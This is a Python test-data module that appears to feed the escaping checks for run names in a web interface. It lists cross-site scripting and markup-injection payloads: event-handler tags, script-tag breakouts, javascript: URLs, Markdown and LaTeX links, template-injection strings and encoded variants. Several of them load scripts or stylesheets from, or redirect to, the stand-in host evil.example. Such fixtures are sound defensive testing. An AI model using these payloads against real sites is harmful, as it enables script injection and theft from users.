"""Texts that run a script, follow a link or load a picture where they are shown as HTML, Markdown or CSS.

A script that runs sets `window.ran` or opens a dialog; a picture or link leads to evil.example. They have at
most 80 characters, as the name of a run.
"""

from __future__ import annotations

CALL = "window.ran=1"
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onpointerrawupdate",
)
_TAGS = (
    "<img src=x {}={}>",
    "<svg {}={}>",
    "<body {}={}>",
    "<details open {}={}>",
    "<input autofocus {}={}>",
    '"><img src=x {}={}>',
    "'><svg/{}={}>",
)
PAYLOADS = (
    *(tag.format(handler, CALL) for tag in _TAGS for handler in _HANDLERS),
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    f"</style><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    "<iframe src=javascript:parent.ran=1>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<object data=javascript:ran=1>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>go</button></form>",
    "<a href=javascript:ran=1>go</a>",
    "<math><mtext></p><img src=x onerror=ran=1>",
    "<template><img src=x onerror=ran=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran=1>'>",
    "![picture](http://evil.example/x.png)",
    "[link](http://evil.example)",
    "[link](javascript:window.ran=1)",
    "<http://evil.example>",
    "http://evil.example/x",
    "[a]: http://evil.example\n[a]",
    "![a][b]\n\n[b]: http://evil.example/x.png",
    "$\\href{javascript:ran=1}{x}$",
    "$$\\url{http://evil.example}$$",
    ":material/home: :red[text] :smile:",
    "`code` **bold** ~~gone~~",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "'-window.ran=1-'",
    '";window.ran=1;//',
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;img src=x onerror=ran=1&#62;",
    "%3Cimg src=x onerror=ran=1%3E",
    "url(http://evil.example/x.png)",
    "red;background:url(//evil.example/x.png)",
    "</div></section></body></html><script>window.ran=1</script>",
    "\u202e<script>window.ran=1</script>",
    "<b>%s{0}{__class__}</b>",
)
SHORT_PAYLOADS = (
    "<svg onload=ran=1>",
    "<svg/onload=ran=1>",
    "<body onload=ran=1>",
    "<p onclick=ran=1>go",
    "<script>ran=1</",
    "[a](//evil.example)",
    "![](//evil.example)",
    "<//evil.example>",
    "<a href=//evil.ex>a",
    "'-(ran=1)-'",
    ":red[a] $x$ `b` *c*",
)
"""Of at most 20 characters, for initials and nicknames."""
